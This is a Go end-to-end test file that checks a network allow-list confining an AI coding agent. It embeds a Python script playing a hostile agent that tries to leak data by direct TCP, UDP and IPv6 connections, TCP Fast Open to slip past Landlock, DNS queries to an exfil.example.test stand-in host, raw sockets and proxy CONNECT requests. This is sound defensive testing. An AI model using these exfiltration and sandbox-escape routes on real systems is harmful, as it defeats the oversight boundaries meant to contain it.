package e2e

import (
	"archive/zip"
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ralph-dev/gh-ralph/internal/workflow"
)

// The agent's network is an allow-list (SECURITY.md, "The agent reaches only the network it needs"): a
// hostile agent that tries to send what it read anywhere but ralph's proxy and gateway gets nothing out,
// however it tries, and what it asked the proxy for is shown. The listeners decide: each counts what
// reached it, whatever the agent claims.

// netTrap is what a hostile agent aims at: a TCP server on loopback over IPv4 and over IPv6, a UDP
// server, and a DNS server, each recording whatever reaches it.
type netTrap struct {
	mu   sync.Mutex
	got  []string // what reached a listener: "tcp4: …", "udp4: …", "dns: …"
	tcp4 net.Listener
	tcp6 net.Listener
	udp4 net.PacketConn
	udp6 net.PacketConn
	dns  net.PacketConn
}

func newNetTrap(t *testing.T) *netTrap {
	t.Helper()
	n := &netTrap{}
	var err error
	if n.tcp4, err = net.Listen("tcp4", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if n.udp4, err = net.ListenPacket("udp4", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if n.dns, err = net.ListenPacket("udp4", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	n.tcp6, _ = net.Listen("tcp6", "[::1]:0")
	n.udp6, _ = net.ListenPacket("udp6", "[::1]:0")
	if n.tcp6 == nil || n.udp6 == nil {
		t.Log("no IPv6 loopback here: the IPv6 attempts are not checked")
	}
	accept := func(name string, l net.Listener) {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
			line, _ := bufio.NewReader(c).ReadString('\n')
			n.note(name, line)
			c.Close()
		}
	}
	read := func(name string, p net.PacketConn) {
		buf := make([]byte, 2048)
		for {
			k, _, err := p.ReadFrom(buf)
			if err != nil {
				return
			}
			n.note(name, string(buf[:k]))
		}
	}
	go accept("tcp4", n.tcp4)
	go read("udp4", n.udp4)
	go read("dns", n.dns)
	if n.tcp6 != nil {
		go accept("tcp6", n.tcp6)
	}
	if n.udp6 != nil {
		go read("udp6", n.udp6)
	}
	t.Cleanup(func() {
		for _, c := range []interface{ Close() error }{n.tcp4, n.udp4, n.dns} {
			c.Close()
		}
		if n.tcp6 != nil {
			n.tcp6.Close()
		}
		if n.udp6 != nil {
			n.udp6.Close()
		}
	})
	return n
}

func (n *netTrap) note(name, what string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.got = append(n.got, fmt.Sprintf("%s: %q", name, what))
}

func (n *netTrap) caught() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return append([]string(nil), n.got...)
}

func port(a net.Addr) int {
	switch a := a.(type) {
	case *net.TCPAddr:
		return a.Port
	case *net.UDPAddr:
		return a.Port
	}
	return 0
}

// targets is what the attack script reads: the trap's ports (0: none).
func (n *netTrap) targets() string {
	t := map[string]int{"tcp4": port(n.tcp4.Addr()), "udp4": port(n.udp4.LocalAddr()), "dns": port(n.dns.LocalAddr())}
	if n.tcp6 != nil {
		t["tcp6"] = port(n.tcp6.Addr())
	}
	if n.udp6 != nil {
		t["udp6"] = port(n.udp6.LocalAddr())
	}
	b, _ := json.Marshal(t)
	return string(b)
}

// netAttack is the hostile agent's program (python3): it sends "LEAK <who>" to every listener of the
// trap by every way it knows, ignoring the proxy variables, then asks ralph's proxy (HTTPS_PROXY, when
// it has one) for hosts not on the allow-list. It notes each attempt in net-tried, and in net-opened the
// sockets of families and types it should not have been able to open.
const netAttack = `
import json, os, socket, struct, sys
who = sys.argv[1]
ctl = os.environ["RALPH_TEST_CONTROL"]
t = json.load(open(os.path.join(ctl, "targets.json")))
log = open(os.path.join(ctl, "net-tried"), "a")
def note(s):
    log.write(who + " " + s + "\n"); log.flush()
payload = ("LEAK " + who + "\n").encode()
def attempt(what, f):
    try:
        f(); note(what + ": sent")
    except Exception as e:
        note(what + ": " + repr(e))
def tcp(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3); s.connect(addr); s.sendall(payload); s.close()
def udp(fam, addr, data):
    s = socket.socket(fam, socket.SOCK_DGRAM); s.sendto(data, addr); s.close()
def dns_query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)
attempt("tcp4", lambda: tcp(socket.AF_INET, ("127.0.0.1", t["tcp4"])))
def fastopen(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(3); s.sendto(payload, 0x20000000, addr); s.close()
# TCP Fast Open: the data goes with the SYN, and the kernel does not ask Landlock about that connection.
attempt("fastopen", lambda: fastopen(("127.0.0.1", t["tcp4"])))
attempt("udp4", lambda: udp(socket.AF_INET, ("127.0.0.1", t["udp4"]), payload))
attempt("dns", lambda: udp(socket.AF_INET, ("127.0.0.1", t["dns"]), dns_query("leak-" + who + ".exfil.example.test")))
if t.get("tcp6"):
    attempt("tcp6", lambda: tcp(socket.AF_INET6, ("::1", t["tcp6"])))
if t.get("udp6"):
    attempt("udp6", lambda: udp(socket.AF_INET6, ("::1", t["udp6"]), payload))
# The system's resolver: a DNS query to whatever /etc/resolv.conf names.
attempt("getaddrinfo", lambda: socket.getaddrinfo("leak-" + who + ".exfil.example.test", 443))
opened = open(os.path.join(ctl, "net-opened"), "a")
for name, fam, typ, proto in [("raw icmp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                              ("ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
                              ("packet", getattr(socket, "AF_PACKET", 17), socket.SOCK_RAW, 0),
                              ("udp", socket.AF_INET, socket.SOCK_DGRAM, 0),
                              ("udp6", socket.AF_INET6, socket.SOCK_DGRAM, 0),
                              ("sctp", socket.AF_INET, socket.SOCK_STREAM, 132)]:
    try:
        socket.socket(fam, typ, proto).close()
        opened.write(who + " " + name + "\n")
    except OSError as e:
        note("open " + name + ": " + repr(e))
opened.close()
proxy = os.environ.get("HTTPS_PROXY", "")
note("proxy " + proxy)
if proxy:
    host, port = proxy.split("//", 1)[-1].rstrip("/").rsplit(":", 1)
    def ask(request):
        s = socket.create_connection((host, int(port)), timeout=5)
        s.sendall(request.encode())
        answer = s.recv(4096).decode(errors="replace").split("\r\n")[0]
        if " 200 " in answer + " ":
            s.sendall(payload)
        s.close()
        return answer
    for target in ["exfil.example.test:443", "127.0.0.1:%d" % t["tcp4"], "localhost:%d" % t["tcp4"]] + (["[::1]:%d" % t["tcp6"]] if t.get("tcp6") else []):
        attempt("CONNECT " + target, lambda: note("CONNECT " + target + " -> " + ask("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))))
    attempt("GET", lambda: note("GET -> " + ask("GET http://plain.exfil.example.test/LEAK HTTP/1.1\r\nHost: plain.exfil.example.test\r\n\r\n")))
`

// arm writes the attack and the trap's ports where the scripted agent finds them; the returned shell
// runs the attack as who.
func (e *env) arm(trap *netTrap) func(who string) string {
	e.t.Helper()
	e.setControl("netattack.py", netAttack)
	e.setControl("targets.json", trap.targets())
	return func(who string) string {
		return `/usr/bin/python3 "$RALPH_TEST_CONTROL/netattack.py" ` + who + " || true\n"
	}
}

// checkTrap fails the test for everything that reached the trap and every socket that should not have
// opened, after checking that the attack ran as each of whos.
func (e *env) checkTrap(t *testing.T, trap *netTrap, whos ...string) {
	t.Helper()
	tried, _ := os.ReadFile(filepath.Join(e.control, "net-tried"))
	for _, who := range whos {
		if !strings.Contains(string(tried), who+" tcp4: ") {
			t.Fatalf("the attack did not run as %s:\n%s", who, tried)
		}
	}
	if got := trap.caught(); len(got) > 0 {
		t.Errorf("the agent's traffic reached a listener ralph's boundary should have kept it from:\n%s\n(its own notes:\n%s)", strings.Join(got, "\n"), tried)
	}
	if b, _ := os.ReadFile(filepath.Join(e.control, "net-opened")); len(b) > 0 {
		t.Errorf("the agent opened sockets it must not:\n%s", b)
	}
	if testing.Verbose() {
		t.Logf("the agent's notes:\n%s", tried)
	}
}

// wantRefusals checks that text (a status comment, a step summary, gh ralph's output) names each host the
// proxy refused once, with the config line that would allow it.
func wantRefusals(t *testing.T, where, text string, hosts ...string) {
	t.Helper()
	for _, h := range hosts {
		if got := strings.Count(text, "`"+h+"`"); got != 1 {
			t.Errorf("%s names the refused host %s %d times, want once:\n%s", where, h, got, text)
		}
	}
	if !strings.Contains(text, "network.allow") {
		t.Errorf("%s does not say how to allow a host (network.allow):\n%s", where, text)
	}
}

// The Action's door, as root and as a normal user: every direct connection, datagram and DNS query of the
// agent is refused by the kernel, the proxy refuses hosts not on the list (and loopback, by address or by
// name), and the refused hosts appear once in the status comment, the record and the step summary.
func TestHostileNetworkAction(t *testing.T) {
	bothUsers(t, testHostileNetworkAction)
}

func testHostileNetworkAction(t *testing.T, as runAs) {
	trap := newNetTrap(t)
	e := newEnvAs(t, as, baseConfig(t, ""))
	attack := e.arm(trap)
	e.setControl("extra_research", attack("research")+attack("research-again"))
	n := e.srv.CreateIssue("octocat", "Add a greeting", "")
	r := e.label(n, maintainer)
	if r.exit != 0 {
		t.Fatalf("exit %d\n%s%s", r.exit, r.stdout, r.stderr)
	}
	e.wantState(n, workflow.ReadyForPlan)
	e.checkTrap(t, trap, "research", "research-again")

	hosts := []string{"exfil.example.test", "127.0.0.1", "localhost", "plain.exfil.example.test"}
	if trap.tcp6 != nil {
		hosts = append(hosts, "::1")
	}
	wantRefusals(t, "the status comment", e.statusComment(n), hosts...)
	wantRefusals(t, "the step summary", r.summary, hosts...)
	rec := e.record(n)
	if rec.Last == nil || len(rec.Last.Refused) != len(hosts) {
		t.Errorf("the record's last run refused %v, want the %d hosts %v", rec.Last, len(hosts), hosts)
	}
}

// gh ralph advance, as root and as a normal user: the same attack by the agent and by a verify command
// (which runs the agent's code) gets nothing out, and advance prints the refused hosts.
func TestHostileNetworkCLI(t *testing.T) {
	bothUsers(t, testHostileNetworkCLI)
}

func testHostileNetworkCLI(t *testing.T, as runAs) {
	trap := newNetTrap(t)
	e := newCLIEnvAs(t, as, agentConfig(t)+"verify:\n  - /usr/bin/python3 \"$RALPH_TEST_CONTROL/netattack.py\" verify\nresearch: false\nreview: skip\n")
	attack := e.arm(trap)
	e.setControl("phases", "1")
	e.setControl("implement_extra", attack("implement"))
	n := e.srv.CreateIssue(maintainer, "Add a greeting", "")
	e.srv.AddLabel(n, workflow.LabelBuild, maintainer)
	if r := e.cli(binary, "advance", fmt.Sprint(n), "--until", "in-progress"); r.exit != 0 {
		t.Fatalf("advance: exit %d\n%s%s", r.exit, r.stdout, r.stderr)
	}
	r := e.cli(binary, "advance", fmt.Sprint(n))
	if r.exit != 0 {
		t.Fatalf("implement: exit %d\n%s%s", r.exit, r.stdout, r.stderr)
	}
	e.checkTrap(t, trap, "implement", "verify")
	wantRefusals(t, "gh ralph advance's output", r.stderr, "exfil.example.test", "plain.exfil.example.test")
	wantRefusals(t, "the status comment", e.statusComment(n), "exfil.example.test", "plain.exfil.example.test")
}

// goProxy is a Go module proxy (GOPROXY protocol) serving one module, example.test/greet v1.0.0, and
// counting what it served.
type goProxy struct {
	*httptest.Server
	mu     sync.Mutex
	served []string
}

func newGoProxy(t *testing.T) *goProxy {
	t.Helper()
	const mod = "example.test/greet"
	const ver = "v1.0.0"
	var zb strings.Builder
	zw := zip.NewWriter(&zb)
	for name, body := range map[string]string{
		"go.mod":   "module " + mod + "\n\ngo 1.21\n",
		"greet.go": "package greet\n\n// Hello is a greeting.\nconst Hello = \"hello\"\n",
	} {
		w, err := zw.Create(mod + "@" + ver + "/" + name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write([]byte(body))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		"/" + mod + "/@v/list":             ver + "\n",
		"/" + mod + "/@v/" + ver + ".info": `{"Version":"` + ver + `","Time":"2024-01-01T00:00:00Z"}`,
		"/" + mod + "/@v/" + ver + ".mod":  "module " + mod + "\n\ngo 1.21\n",
		"/" + mod + "/@v/" + ver + ".zip":  zb.String(),
	}
	p := &goProxy{}
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, ok := files[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		p.mu.Lock()
		p.served = append(p.served, r.Host+r.URL.Path)
		p.mu.Unlock()
		_, _ = w.Write([]byte(body))
	}))
	t.Cleanup(p.Close)
	return p
}

// The allowed path works through the proxy: a verify command's `go test` downloads a module from a Go
// module proxy on the allow-list (a registry of the test's, named goproxy.example.test, which ralph's proxy
// resolves to the test's server through RALPH_NETWORK_RESOLVE, as it would resolve proxy.golang.org),
// while the agent's own CONNECT to a host not on the list is refused.
func TestNetworkAllowsTheRegistry(t *testing.T) {
	bothUsers(t, testNetworkAllowsTheRegistry)
}

func testNetworkAllowsTheRegistry(t *testing.T, as runAs) {
	reg := newGoProxy(t)
	_, regPort, _ := net.SplitHostPort(strings.TrimPrefix(reg.URL, "http://"))
	host := "goproxy.example.test:" + regPort
	goBin, err := filepath.Abs(filepath.Join(os.Getenv("GOROOT"), "bin", "go"))
	if err != nil || os.Getenv("GOROOT") == "" {
		goBin = "/usr/local/go/bin/go"
	}
	if _, err := os.Stat(goBin); err != nil {
		t.Skipf("no go command at %s for the verify step", goBin)
	}
	e := newEnvAs(t, as, "agent:\n  preset: command\n  command: "+agentCommand(t)+"\n  timeout: 5m\n"+
		"  env:\n    RALPH_TEST_CONTROL: \"\"\n    GOPROXY: http://"+host+"\n    GOSUMDB: \"off\"\n    GOFLAGS: -mod=mod\n    GOTOOLCHAIN: local\n"+
		"research: false\nreview: skip\n"+
		"verify:\n  - "+goBin+" test ./...\n"+
		"network:\n  allow: [\""+host+"\"]\n")
	e.extra = map[string]string{"RALPH_NETWORK_RESOLVE": "goproxy.example.test=127.0.0.1"}
	e.setControl("implement_extra", `printf 'module example.test/app\n\ngo 1.21\n\nrequire example.test/greet v1.0.0\n' > go.mod
printf 'package app\n\nimport (\n\t"testing"\n\n\t"example.test/greet"\n)\n\nfunc TestHello(t *testing.T) {\n\tif greet.Hello != "hello" {\n\t\tt.Fatal(greet.Hello)\n\t}\n}\n' > app_test.go
`)
	n, r := e.implementOnce()
	if r.exit != 0 {
		t.Fatalf("implement: exit %d\n%s%s", r.exit, r.stdout, r.stderr)
	}
	reg.mu.Lock()
	served := strings.Join(reg.served, "\n")
	reg.mu.Unlock()
	if !strings.Contains(served, "example.test/greet/@v/v1.0.0.zip") {
		t.Errorf("the module was not downloaded through ralph's proxy; the registry served:\n%s\n%s", served, r.stdout)
	}
	_, files := e.branch(branch1)
	if !hasAll(files, "go.mod", "app_test.go") {
		t.Errorf("the phase that needed the module was not pushed: %v\n%s", files, r.stdout)
	}
	if strings.Contains(e.statusComment(n), "goproxy.example.test") {
		t.Errorf("the status comment reports the allowed registry as refused:\n%s", e.statusComment(n))
	}
}

// network.mode: open restores the network as it was before the allow-list: the agent reaches the trap,
// and ralph says so loudly in the log.
func TestNetworkOpenMode(t *testing.T) {
	t.Parallel()
	trap := newNetTrap(t)
	e := newEnv(t, baseConfig(t, "network:\n  mode: open\n"))
	attack := e.arm(trap)
	e.setControl("extra_research", attack("research"))
	n := e.srv.CreateIssue("octocat", "Add a greeting", "")
	r := e.label(n, maintainer)
	if r.exit != 0 {
		t.Fatalf("exit %d\n%s%s", r.exit, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "::warning::network.mode is open: the agent reaches any host") {
		t.Errorf("the log does not warn that the network is open:\n%s", r.stdout)
	}
	if got := strings.Join(trap.caught(), "\n"); !strings.Contains(got, `tcp4: "LEAK research\n"`) {
		t.Errorf("with network.mode: open the agent's TCP connection did not reach the listener: %s", got)
	}
}

// The ordinary flow completes with a real CLI under the allow-list: Claude Code, confined to ralph's
// proxy and gateway ports, reaches its model through the gateway and writes the research document.
func TestNetworkRealCLIThroughTheAction(t *testing.T) {
	t.Parallel()
	const content = "# Research: greeting\n\nWritten by Claude Code, behind the allow-list.\n"
	e, model, r := claudeResearch(t, 10, content)
	if r.exit != 0 || r.outputs["step"] != "research" {
		t.Fatalf("research with Claude Code: exit %d outputs %v\n%s%s", r.exit, r.outputs, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "network: TCP connections only to ralph's network proxy and model gateway") {
		t.Errorf("the log does not show the agent's network confined:\n%s", r.stdout)
	}
	e.wantState(1, workflow.ReadyForPlan)
	if b := model.Billed(); b.Requests == 0 {
		t.Errorf("no model request reached the model through the gateway")
	}
	if u := e.record(1).Usage; u == nil || !u.Metered || u.Requests != model.Billed().Requests {
		t.Errorf("recorded usage %+v; the model billed %+v", u, model.Billed())
	}
}
